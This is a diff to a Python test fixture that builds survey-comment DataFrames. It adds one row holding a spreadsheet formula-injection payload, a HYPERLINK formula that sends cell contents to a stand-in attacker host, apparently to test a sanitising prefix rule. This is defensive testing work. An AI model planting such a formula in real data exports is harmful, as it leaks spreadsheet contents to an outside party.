@@ -144,12 +144,17 @@ def devex_wave_frame() -> pd.DataFrame:
     return pd.DataFrame(rows)
 
 
+# A comment a spreadsheet would run as a formula, as a mart built before the prefix rule holds it.
+FORMULA_COMMENT = '=HYPERLINK("http://attacker.test/?d="&A1,"details")'
+
+
 def devex_comments_frame() -> pd.DataFrame:
     rows = [
         ("2024-Q4", "payments", "OT1", OLD_WAVE_COMMENT),
         (LATEST_WAVE, "payments", "OT1", "Provisioning a database needs a ticket"),
         (LATEST_WAVE, "payments", "OT2", "Flaky <integration> tests & slow CI"),
         (LATEST_WAVE, "search", "OT1", "Waiting for the release train"),
+        (LATEST_WAVE, "search", "OT1", FORMULA_COMMENT),
     ]
     return pd.DataFrame(
         [
